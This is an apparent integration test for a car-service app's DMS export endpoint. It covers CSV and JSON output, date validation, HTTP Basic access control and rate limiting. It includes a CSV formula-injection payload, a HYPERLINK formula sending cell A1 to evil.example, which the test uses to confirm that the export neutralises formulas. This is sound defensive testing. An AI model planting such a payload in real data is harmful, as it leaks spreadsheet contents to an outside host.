// The DMS export over real HTTP (real SQLite or PostgreSQL by TEST_RECORDS), with cards made by
// a simulated tablet and synced: the cards checked in on the days asked (the store's clock)
// with their lines, as CSV (one row per line, card fields repeated, formulas neutralised) and as
// JSON in the documented schema; from the console and from /api/v1/export with an
// administrator's HTTP Basic credentials (advisor 403, wrong 401, repeated failures 429).
import 'fake-indexeddb/auto';
import { Dexie } from 'dexie';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordPhoneApproval, addAddition } from '../../src/db/addition-repo.ts';
import { addLine } from '../../src/db/estimate-repo.ts';
import { commitMutation, createJob } from '../../src/db/job-repo.ts';
import { addAdvisor } from '../../src/server/admin/store-admin.ts';
import { CSV_COLUMNS, exportResponseSchema } from '../../src/shared/console/export-api.ts';
import { signInAdvisor } from '../../src/sync/enrollment.ts';
import { consoleRequest, signInConsole, type ConsoleClient } from '../support/console-client.ts';
import { seedTestStore, type TestStore } from '../support/store-fixture.ts';
import { createTablet, type Tablet } from '../support/tablet.ts';
import { startTestServer, type TestServer } from '../support/test-server.ts';

let server: TestServer;
let store: TestStore;
let tablet: Tablet;
let advisorConsole: ConsoleClient;
const ADMIN = { username: 'boss', password: 'boss-password-1' };
const ids = { evening: '', morning: '', nextDay: '', draft: '' };
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';

beforeAll(async () => {
  server = await startTestServer('console-export');
  store = await seedTestStore(server.data.storage, 'EX1');
  const summary = (await server.data.storage.getStore(store.storeId))!;
  await addAdvisor(server.data.storage, summary, { ...ADMIN, name: '店长', role: 'admin' });
  const other = await seedTestStore(server.data.storage, 'EX2');

  tablet = await createTablet('A', { baseUrl: server.baseUrl }, store.enrollmentCode);
  await signInAdvisor(tablet.db, { username: store.advisor.username, password: store.advisor.password }, { baseUrl: server.baseUrl });
  const day = (iso: string) => new Date(iso);
  // Checked in at 23:50 on 11-20 in Shenzhen (15:50 UTC): counts on the 20th.
  const evening = await createJob(tablet.db, { customer: { name: EVIL, phone: '+86 138 0013 8000', company: '-1+1' }, vehicle: { plate: '粤B7K2Q9', vin: 'LSVAU2180N2183294', model: '帕萨特' }, serviceTypes: { maintenance: true, repair: true }, customerRequest: '异响, "左前"' }, day('2026-11-20T23:40:00+08:00'));
  await addLine(tablet.db, evening.id, { kind: 'labour', code: 'L001', description: '更换机油', quantityMilli: 1500, unitPriceFen: 8000, discountBp: 1000 });
  await addLine(tablet.db, evening.id, { kind: 'part', code: '@P1', description: '机油滤芯', quantityMilli: 1000, unitPriceFen: 5000, discountBp: 0 });
  await commitMutation(tablet.db, evening.id, { op: 'job.checkIn', payload: {} }, day('2026-11-20T23:50:00+08:00'));
  const pads = await addAddition(tablet.db, evening.id, { kind: 'part', code: '', description: '刹车片', quantityMilli: 1000, unitPriceFen: 30000, discountBp: 0, reason: '磨损到限' });
  const wipers = await addAddition(tablet.db, evening.id, { kind: 'part', code: '', description: '雨刮', quantityMilli: 1000, unitPriceFen: 8000, discountBp: 0, reason: '老化' });
  await recordPhoneApproval(tablet.db, evening.id, { decisions: { [pads]: 'approved', [wipers]: 'declined' }, promisedAt: null, calledAt: new Date().toISOString(), phone: '13800138000', agreedBy: '王先生' });
  // No lines: still one row.
  const morning = await createJob(tablet.db, { customer: { name: '李娜', phone: '13700001111' }, vehicle: { plate: '沪A12345' } }, day('2026-11-20T08:00:00+08:00'));
  await commitMutation(tablet.db, morning.id, { op: 'job.checkIn', payload: {} }, day('2026-11-20T08:10:00+08:00'));
  // 00:10 on the 21st: the next day.
  const nextDay = await createJob(tablet.db, { customer: { name: '赵强', phone: '13900002222' } }, day('2026-11-21T00:05:00+08:00'));
  await commitMutation(tablet.db, nextDay.id, { op: 'job.checkIn', payload: {} }, day('2026-11-21T00:10:00+08:00'));
  // A draft is no job for the DMS.
  const draft = await createJob(tablet.db, { customer: { name: '草稿' } }, day('2026-11-20T10:00:00+08:00'));
  await tablet.engine.syncNow();
  Object.assign(ids, { evening: evening.id, morning: morning.id, nextDay: nextDay.id, draft: draft.id });

  const theirs = await createTablet('B', { baseUrl: server.baseUrl }, other.enrollmentCode);
  const elsewhere = await createJob(theirs.db, { customer: { name: '别店' } }, day('2026-11-20T10:00:00+08:00'));
  await commitMutation(theirs.db, elsewhere.id, { op: 'job.checkIn', payload: {} }, day('2026-11-20T10:05:00+08:00'));
  await theirs.engine.syncNow();
  await theirs.engine.stop();
  theirs.db.close();
  await Dexie.delete(theirs.db.name);

  advisorConsole = await signInConsole(server.baseUrl, { store: store.code, username: store.advisor.username, password: store.advisor.password });
}, 60_000);

afterAll(async () => {
  await tablet?.engine.stop();
  tablet?.db.close();
  if (tablet) await Dexie.delete(tablet.db.name);
  await server?.close();
});

const basic = (user: string, password: string) => ({ authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}` });
const dms = (query: string, headers: Record<string, string>) => consoleRequest(server.baseUrl, 'GET', `/api/v1/export?${query}`, undefined, headers);

/** A CSV of quoted and plain cells, CRLF lines, into rows of cells (enough for this file's content). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  return rows;
}

describe('the export from the console', () => {
  it("is JSON in the documented schema: the day's checked-in cards, oldest first, with their lines and approved additions", async () => {
    const reply = await advisorConsole.request('GET', '/api/v1/console/export?from=2026-11-20&format=json');
    expect(reply.status, reply.text).toBe(200);
    const content = exportResponseSchema.parse(reply.json);
    expect(content).toMatchObject({ store: { code: 'EX1' }, from: '2026-11-20', to: '2026-11-20' });
    expect(content.cards.map((card) => card.jobId)).toEqual([ids.morning, ids.evening]);
    const evening = content.cards[1]!;
    expect(evening).toMatchObject({
      status: 'checked-in',
      advisor: { username: 'zhang', name: '张顾问' },
      customer: { name: EVIL, phone: '+86 138 0013 8000' },
      vehicle: { plate: '粤B7K2Q9', model: '帕萨特' },
      serviceTypes: ['maintenance', 'repair'],
      // 8000 × 1.5 = 12000, 10% off = 10800; + 5000; + the approved 30000 (the declined 8000 not).
      estimateFen: 15_800,
      approvedAdditionsFen: 30_000,
      dueFen: 45_800,
      paidFen: null,
    });
    expect(evening.lines.map((line) => [line.source, line.description, line.grossFen, line.discountFen, line.netFen])).toEqual([
      ['estimate', '更换机油', 12_000, 1_200, 10_800],
      ['estimate', '机油滤芯', 5_000, 0, 5_000],
      ['addition', '刹车片', 30_000, 0, 30_000],
    ]);
    expect(reply.headers.get('content-disposition')).toBe('attachment; filename="walkaround-EX1-2026-11-20.json"');
  });

  it('is CSV with one row per line and the card repeated, a card without lines on one row, every formula neutralised', async () => {
    const reply = await advisorConsole.request('GET', '/api/v1/console/export?from=2026-11-20&to=2026-11-21&format=csv');
    expect(reply.status, reply.text).toBe(200);
    expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    // A BOM, so Excel opens the UTF-8 as Chinese (fetch's text() drops it: read the bytes).
    const bytes = Buffer.from(await (await fetch(`${server.baseUrl}/api/v1/console/export?from=2026-11-20`, { headers: { cookie: advisorConsole.cookie } })).arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(reply.text);
    expect(header).toEqual([...CSV_COLUMNS]);
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows.map((row) => [row[column('job_id')], row[column('line_description')]])).toEqual([
      [ids.morning, ''],
      [ids.evening, '更换机油'],
      [ids.evening, '机油滤芯'],
      [ids.evening, '刹车片'],
      [ids.nextDay, ''],
    ]);
    const evening = rows[1]!;
    // A spreadsheet must show these as text, never run them.
    expect(evening[column('customer_name')]).toBe(`'${EVIL}`);
    expect(evening[column('customer_phone')]).toBe("'+86 138 0013 8000");
    expect(evening[column('customer_company')]).toBe("'-1+1");
    expect(rows[2]![column('line_code')]).toBe("'@P1");
    expect(evening[column('customer_request')]).toBe('异响, "左前"');
    expect(rows.every((row) => row.length === CSV_COLUMNS.length && row.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
    expect(evening[column('net_fen')]).toBe('10800');
    expect(evening[column('service_types')]).toBe('maintenance repair');
  });

  it('refuses a bad range with what to fix', async () => {
    for (const [query, message] of [
      ['', 'from is required'],
      ['from=2026-02-30', 'a day that exists'],
      ['from=2026-11-21&to=2026-11-20', 'must be on or after from'],
      ['from=2026-01-01&to=2026-12-31', 'at most 92 days'],
      ['from=2026-11-20&format=xlsx', 'format must be csv or json'],
    ] as const) {
      const reply = await advisorConsole.request('GET', `/api/v1/console/export?${query}`);
      expect(reply.status, query).toBe(400);
      expect(reply.text, query).toContain(message);
    }
  });
});

describe('the DMS door: GET /api/v1/export with HTTP Basic', () => {
  it("answers an administrator with the same content, for their store only", async () => {
    const reply = await dms('from=2026-11-20&format=json', basic('ex1/boss', ADMIN.password));
    expect(reply.status, reply.text).toBe(200);
    expect(exportResponseSchema.parse(reply.json).cards.map((card) => card.jobId)).toEqual([ids.morning, ids.evening]);
    const csv = await dms('from=2026-11-20', basic('EX1/boss', ADMIN.password));
    expect([csv.status, csv.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
  });

  it('is 403 for an advisor, 401 with a challenge for wrong or missing credentials', async () => {
    const advisor = await dms('from=2026-11-20', basic(`EX1/${store.advisor.username}`, store.advisor.password));
    expect(advisor.status).toBe(403);
    expect(advisor.text).toContain('administrator');
    for (const headers of [{}, basic('EX1/boss', 'wrong-password'), basic('EX9/boss', ADMIN.password), basic('boss', ADMIN.password), { authorization: 'Bearer abc' }]) {
      const reply = await dms('from=2026-11-20', headers);
      expect(reply.status).toBe(401);
      expect(reply.headers.get('www-authenticate')).toContain('Basic');
      expect(reply.text).toContain('STORECODE/username');
    }
    // The session cookie is not the DMS's way in.
    expect((await dms('from=2026-11-20', { cookie: advisorConsole.cookie })).status).toBe(401);
  });

  it('slows down guessing: after five wrong passwords for a user, even the right one waits', async () => {
    const summary = (await server.data.storage.getStore(store.storeId))!;
    await addAdvisor(server.data.storage, summary, { username: 'guessed', password: 'guessed-password-1', name: '被猜', role: 'admin' });
    for (let i = 0; i < 5; i++) expect((await dms('from=2026-11-20', basic('EX1/guessed', `wrong-${i}`))).status).toBe(401);
    const refused = await dms('from=2026-11-20', basic('EX1/guessed', 'guessed-password-1'));
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});

describe('the documentation', () => {
  it('publishes the DMS door in the OpenAPI document: HTTP Basic, the query, the JSON schema of cards and lines', async () => {
    const reply = await consoleRequest(server.baseUrl, 'GET', '/api/v1/openapi.json');
    const doc = reply.json as { paths: Record<string, Record<string, { security: unknown; parameters: Array<{ name: string }>; responses: Record<string, { content: Record<string, { schema: unknown }> }> }>> };
    const route = doc.paths['/api/v1/export']!.get!;
    expect(route.security).toEqual([{ adminBasic: [] }]);
    expect(route.parameters.map((p) => p.name).sort()).toEqual(['format', 'from', 'to']);
    const schema = JSON.stringify(route.responses['200']!.content['application/json']!.schema);
    for (const field of ['cards', 'lines', 'lineId', 'netFen', 'dueFen', 'checkedInAt', 'quantityMilli']) expect(schema).toContain(`"${field}"`);
  });
});
